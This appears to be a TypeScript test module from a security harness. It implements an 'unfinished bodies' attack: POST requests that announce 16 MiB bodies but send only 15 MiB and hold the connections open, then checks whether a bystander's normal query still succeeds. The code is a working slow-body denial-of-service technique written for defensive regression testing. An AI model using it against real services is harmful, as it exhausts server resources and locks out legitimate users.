import { once } from 'node:events';
import { type ClientRequest, request } from 'node:http';
import { setTimeout } from 'node:timers/promises';
import { type Attack, count, shop } from './attack.ts';
import type { Caller } from './caller.ts';

const mebibyte = 1024 * 1024;
const saidBytes = 16 * mebibyte;
const holdMs = 1_000;
const path = `/v1/${shop}/assets:reportAssetFrames?source=${shop}/sources/scan`;
const begun = Buffer.alloc(15 * mebibyte, 'x');
begun.write('{"framesData":[{"labels":{"key":"');
/** Larger than what is taken in without a look. */
const honestQuery = `{ viewer { kind } } #${'x'.repeat(100_000)}`;

interface Held {
  readonly asked: ClientRequest;
  /** The word of an answer that came before the body's end; null where none came until the time was over. */
  readonly answer: Promise<string | null>;
}

/** Bodies of which most has come and the rest never does: found in a review, they shut others out. */
export const unfinishedBodies: Attack = {
  name: 'unfinished bodies',
  standing: 'tenant',
  async round(caller) {
    const held = count(4).map((at) => hold(caller, at < 2 ? null : caller.token));
    const words = await Promise.all(held.map(async ({ answer }) => (await answer) ?? 'held'));
    for (const { asked } of held) asked.destroy();
    return words;
  },
  async lost(bystander) {
    const held = count(16).map((at) => hold({ ...bystander, address: `127.0.0.${100 + at}` }, null));
    const heard = await Promise.all(held.map(async ({ answer }) => await answer));
    const word = await bystander.graph(honestQuery);
    for (const { asked } of held) asked.destroy();
    if (heard.every((one) => one !== null)) return 'no body was held';
    return word === '200' ? null : `a body of 100 kB: ${word}`;
  },
};

function hold({ url, address, signal }: Caller, token: string | null): Held {
  const headers = {
    'content-type': 'application/json',
    'content-length': saidBytes,
    ...(token !== null && { authorization: `Bearer ${token}` }),
  };
  const asked = request(new URL(path, url), {
    method: 'POST',
    agent: false,
    localAddress: address,
    signal,
    headers,
  });
  const answered = once(asked, 'response').then(
    ([{ statusCode }]) => String(statusCode),
    (error: NodeJS.ErrnoException) => (signal.aborted ? null : (error.code ?? error.name)),
  );
  asked.on('error', () => undefined);
  asked.write(begun);
  return { asked, answer: Promise.race([answered, setTimeout(holdMs, null)]) };
}
